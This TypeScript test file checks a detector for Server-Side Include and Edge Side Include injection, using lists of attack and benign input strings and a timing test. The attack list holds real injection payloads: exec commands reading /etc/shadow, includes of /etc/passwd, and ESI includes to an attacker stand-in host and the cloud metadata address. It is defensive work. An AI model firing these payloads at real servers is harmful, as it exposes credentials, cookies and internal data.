import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { Finding } from '../../finding.ts';
import { ssiDetector as detector } from './ssi.ts';
import { cpuBestOf, detectorRunner } from '../../../../test/helpers/detector-harness.ts';

const run = detectorRunner(detector, { source: 'query', name: 'q' });
const bestOf = cpuBestOf;
const pl1 = (fs: Finding[]) => fs.filter((f) => f.paranoia === 1);

const attacks = [
  '<!--#exec cmd="cat /etc/shadow" -->',
  '<!--#EXEC CMD="id"-->',
  '<!--#exec  cgi="/cgi-bin/x.cgi"-->',
  'name=<!--#include virtual="/etc/passwd" -->',
  '<!--#include file="../../config.inc"-->',
  '<!--#echo var="DOCUMENT_ROOT" -->',
  '<!--#config timefmt="%A" -->',
  '<!--#set var="x" value="y" -->',
  '<!--#printenv -->',
  '<!--#fsize file="index.html" -->',
  '<!--#if expr="$a = b" -->',
  '<esi:include src="http://evil.example/x"/>',
  'x<ESI:include src=http://169.254.169.254/ />',
  '<esi:vars>$(HTTP_COOKIE)</esi:vars>',
  '<esi:debug/>',
  '<esi:assign name="x" value="1"/>',
  '<!--esi <esi:include src="/a"/> -->',
];

const benign = [
  '<!-- #main section -->',
  '<!--#region collapsed-->',
  '<!-- comment --> text',
  'Please include the file virtual.txt',
  'echo var="x"',
  'The esi: prefix is used by Akamai',
  'esi:include is a tag name',
  'My email is jesi:pass',
  '<b>Bold</b> and <i>italic</i>',
  '<!--#exec',
];

test('SSI and ESI injections are found at paranoia 1', () => {
  for (const v of attacks) {
    const fs = pl1(run(v));
    assert.ok(fs.length > 0, `missed: ${v}`);
    for (const f of fs) {
      assert.equal(f.category, 'ssi');
      assert.ok(f.matched.length <= 120);
    }
  }
});

test('benign values give nothing at paranoia 1', () => {
  for (const v of benign) assert.deepEqual(pl1(run(v)), [], `false positive: ${v}`);
});

test('a bare directive is paranoia 2', () => {
  assert.equal(run('<!--#exec')[0]?.paranoia, 2);
});

test('linear time; never throws', () => {
  for (const v of ['Some prose about includes and <esi> tags. '.repeat(5000), '<!--#'.repeat(40000), '<esi:'.repeat(40000), '</esi:incl'.repeat(20000)]) {
    const ms = bestOf(() => { run(v); });
    assert.ok(ms < 250, `slow ${ms.toFixed(1)} ms`);
  }
  for (let i = 0; i < 2000; i++) {
    let s = '';
    for (let j = 0; j < 24; j++) s += '<!-#esi:= "exec>/'[Math.floor(Math.random() * 17)] ?? '';
    run(s);
  }
});
